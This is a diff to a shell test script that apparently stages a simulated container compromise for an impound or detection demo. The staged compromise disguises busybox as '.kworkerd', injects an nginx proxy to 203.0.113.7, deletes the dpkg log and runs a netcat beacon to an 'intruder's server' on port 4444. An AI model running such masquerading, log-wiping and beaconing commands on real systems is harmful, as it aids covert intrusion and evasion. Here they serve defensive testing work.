@@ -97,6 +97,7 @@ only_schedulable() {
 
 # How often the beacon has reached the intruder's server, and whether it goes on to.
 beacons() { docker exec "$SERVER" sh -c 'wc -l </tmp/received'; }
+server_listens() { docker exec "$SERVER" busybox netstat -ltn | grep -q ':4444 '; }
 test_beacon() { [ "$(beacons)" -gt 0 ]; }
 beacon_grows() {
     local before
@@ -172,7 +173,10 @@ docker exec "$CONTAINER" sh -ec '
     cp /bin/busybox /tmp/.kworkerd
     sed -i "s|location / {|location /.well-known/update { proxy_pass http://203.0.113.7:8080; }\n\tlocation / {|" /etc/nginx/sites-available/default
     rm /var/log/dpkg.log'
-SERVER=$(docker run -d impound-demo/pause:1 sh -c 'nc -l -p 4444 >/tmp/received')
+# With a standard input that stays open: nc hangs up at its end.
+SERVER=$(docker run -d impound-demo/pause:1 sh -c 'sleep 100000 | nc -l -p 4444 >/tmp/received')
+# A client that comes before the server listens is refused, and does not come again.
+await "the intruder's server" docker-kubelet server_listens
 SERVER_ADDRESS=$(docker inspect -f '{{.NetworkSettings.IPAddress}}' "$SERVER")
 docker exec -d "$CONTAINER" sh -c "while :; do echo beacon; sleep 0.2; done | busybox nc $SERVER_ADDRESS 4444"
 await "the beacon" docker-kubelet test_beacon
